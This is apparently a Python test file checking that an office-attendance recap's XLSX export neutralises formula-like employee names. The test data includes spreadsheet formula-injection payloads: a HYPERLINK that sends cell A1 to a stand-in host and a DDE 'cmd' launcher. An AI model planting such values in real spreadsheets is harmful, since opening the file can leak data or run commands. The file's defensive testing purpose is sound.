"""What people type cannot take over our documents: no live formulas in spreadsheets."""

from __future__ import annotations

import ast
import dataclasses
import io
import zipfile
from pathlib import Path

from openpyxl import load_workbook

from reports.recap_xlsx import render_xlsx
from tests.support.office import PEOPLE, STAFF_A, STAFF_B, STAFF_C
from tests.test_recap_reports import OFFICE, october

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = {STAFF_A.nip: '=HYPERLINK("https://contoh.invalid/?d="&A1;"Dewi")',
           STAFF_B.nip: "+1+cmd|' /C calc'!A0", STAFF_C.nip: "@SUM(1+1)"}


def test_formula_like_names_are_text_in_the_recap_xlsx() -> None:
    month = october()
    month = dataclasses.replace(month, employees=tuple(
        dataclasses.replace(e, nama=HOSTILE.get(e.nip, e.nama),
                            jabatan="-" + e.jabatan if e.nip == STAFF_A.nip else e.jabatan)
        for e in month.employees))
    data = render_xlsx(OFFICE, month)
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml                      # no formula element anywhere
    sheet = load_workbook(io.BytesIO(data))["Rekap Oktober 2026"]
    rows = {row[2].value: row for row in sheet.iter_rows(min_row=5)}
    assert len(rows) == len(PEOPLE)
    for nip, name in HOSTILE.items():
        cell = rows[nip][1]
        assert cell.value == name and cell.data_type == "s" and cell.quotePrefix
    assert rows[STAFF_A.nip][4].value.startswith("-") and rows[STAFF_A.nip][4].quotePrefix


def test_every_xlsx_is_saved_through_the_one_helper() -> None:
    """A workbook saved anywhere else would skip the formula guard."""
    offenders = []
    for path in [*ROOT.glob("reports/*.py"), *ROOT.glob("services/**/*.py"),
                 *ROOT.glob("handlers/**/*.py"), *ROOT.glob("bot/**/*.py")]:
        if path.name == "spreadsheet.py":
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if (isinstance(node, ast.ImportFrom) and node.module == "openpyxl"
                    and any(alias.name == "Workbook" for alias in node.names)):
                offenders.append(str(path.relative_to(ROOT)))
    assert all("workbook_bytes" in (ROOT / p).read_text() for p in offenders), offenders
